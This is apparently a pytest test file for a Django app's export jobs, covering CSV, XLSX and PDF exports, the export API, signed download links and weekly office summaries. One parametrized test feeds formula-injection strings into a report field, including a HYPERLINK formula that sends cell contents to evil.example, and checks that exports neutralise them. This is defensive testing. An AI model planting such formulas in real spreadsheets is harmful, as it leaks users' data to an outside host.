"""Exports as background jobs; the weekly summary per office."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.core import mail
from openpyxl import load_workbook

from netral.core.models import AuditEntry
from netral.demo.cases import seed_cases
from netral.insights.models import ExportJob, WeeklySummary
from netral.insights.summaries import send_weekly

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _after_commit(django_capture_on_commit_callbacks, monkeypatch):
    """The export task is enqueued after commit; here each request's callbacks run at its end
    (and the immediate task backend runs the export)."""
    from django.test import Client

    original = Client.request

    def request(self, **kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            return original(self, **kwargs)

    monkeypatch.setattr(Client, "request", request)


def _run(client, source, fmt, **filters):
    response = client.post("/ekspor/", {"source": source, "format": fmt, **filters})
    assert response.status_code == 302
    return ExportJob.objects.order_by("-id").first()


def test_a_csv_export_of_the_case_list_keeps_the_scope_and_filters(as_user):
    seed_cases()
    client = as_user("bawaslu.kukar")
    job = _run(client, "cases", "csv", state="registered")
    job.refresh_from_db()
    assert job.status == "done"
    assert job.total == job.processed == 1
    page = client.get(f"/ekspor/{job.pk}/").content.decode()
    assert 'value="100"' in page
    link = page.split('id="export-download" href="')[1].split('"')[0].replace("&amp;", "&")
    download = client.get(link)
    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig"))))
    assert rows[0][0] == "Nomor perkara"
    assert len(rows) == 2
    assert rows[1][1] == "registered"
    assert AuditEntry.objects.filter(action="insights.export.download").exists()
    # Someone else, or a link without its signature, gets nothing.
    assert as_user("bawaslu.kaltim").get(link).status_code == 404
    assert client.get(f"/ekspor/{job.pk}/unduh/?t=forged").status_code == 403


def test_xlsx_and_pdf_exports(as_user):
    seed_cases()
    client = as_user("analis.bkn")
    xlsx = _run(client, "cases", "xlsx")
    xlsx.refresh_from_db()
    book = load_workbook(io.BytesIO(xlsx.file.open("rb").read()))
    rows = list(book.active.iter_rows(values_only=True))
    assert len(rows) == 7  # header and six cases
    assert rows[0][0] == "Nomor perkara"
    pdf = _run(client, "cases", "pdf")
    pdf.refresh_from_db()
    assert pdf.file.open("rb").read().startswith(b"%PDF")
    assert pdf.total == 6


def test_the_api_starts_an_export_and_reports_progress(as_user):
    seed_cases()
    client = as_user("bkpsdm.kukar")
    started = client.post(
        "/api/v1/exports",
        {"source": "civil_servants", "format": "csv", "filters": {"agency": "KAB-64.02"}},
        content_type="application/json",
    )
    assert started.status_code == 202
    job = client.get(f"/api/v1/exports/{started.json()['id']}").json()
    assert job["status"] == "done"
    assert job["total"] > 100
    assert job["download_url"].startswith(f"/ekspor/{job['id']}/unduh/?t=")
    refused = client.post(
        "/api/v1/exports", {"source": "nope", "format": "csv"}, content_type="application/json"
    )
    assert refused.status_code == 422
    assert (
        as_user("kadis.kukar")
        .post(
            "/api/v1/exports", {"source": "cases", "format": "csv"}, content_type="application/json"
        )
        .status_code
        == 403
    )


def test_the_weekly_summary_is_made_and_mailed_once_per_office_and_week(personas):
    from netral.registry.models import Office

    seed_cases()
    head = personas["bawaslu.kukar"]
    Office.objects.filter(code="BAWASLU-64.02").update(head=head)
    monday = date(2026, 11, 23)
    assert send_weekly(monday) == 1
    assert send_weekly(monday) == 0
    summary = WeeklySummary.objects.get()
    assert summary.document.open("rb").read().startswith(b"%PDF")
    assert mail.outbox[0].to == [head.email]
    assert mail.outbox[0].attachments[0][2] == "application/pdf"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_a_formula_typed_by_a_reporter_stays_text_in_csv_and_xlsx(as_user, client, form_data, name):
    from netral.intake.models import Report

    assert client.post("/lapor/", {**form_data, "accused_name": name}).status_code == 200
    name = Report.objects.get().accused_name  # as stored (the form trims whitespace)
    assert name.startswith(("=", "+", "-", "@"))
    client = as_user("bawaslu.ri")
    for fmt in ("csv", "xlsx"):
        job = _run(client, "reports", fmt)
        job.refresh_from_db()
        assert job.status == "done", job.error
        content = job.file.open("rb").read()
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
            assert {r[5] for r in rows[1:]} == {"'" + name}
        else:
            sheet = load_workbook(io.BytesIO(content)).active
            cells = [row[5] for row in sheet.iter_rows(min_row=2)]
            assert cells
            assert all(c.data_type == "s" and c.value == name for c in cells)


def test_xlsx_stops_at_its_row_limit_with_a_clear_message(as_user, monkeypatch):
    from netral.insights import exports

    seed_cases()
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    client = as_user("analis.bkn")
    job = _run(client, "cases", "xlsx")
    job.refresh_from_db()
    assert job.status == "failed"
    assert "CSV" in job.error
    import netral.core.sheets

    monkeypatch.setattr(netral.core.sheets, "XLSX_MAX_ROWS", 3)
    refused = client.post(
        "/api/v1/exports", {"source": "cases", "format": "xlsx"}, content_type="application/json"
    )
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "format"
